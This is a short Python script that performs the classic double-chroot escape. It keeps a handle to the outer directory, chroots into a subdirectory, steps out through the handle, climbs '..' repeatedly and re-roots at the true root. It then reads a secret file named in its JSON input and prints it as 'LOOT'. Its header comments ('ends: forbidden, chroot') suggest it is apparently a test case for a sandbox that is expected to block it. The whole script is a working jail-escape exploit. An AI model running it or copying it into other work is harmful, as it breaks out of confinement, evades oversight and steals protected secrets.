# Leaves by the old trick with two changes of the root.
# ends: forbidden, chroot
import json
import os
import sys

about = json.load(sys.stdin)
os.mkdir("inner")
door = os.open(".", os.O_RDONLY)
os.chroot("inner")
os.fchdir(door)
for _ in range(100):
    os.chdir("..")
os.chroot(".")
print("LOOT", open(about["secret_file"]).read())
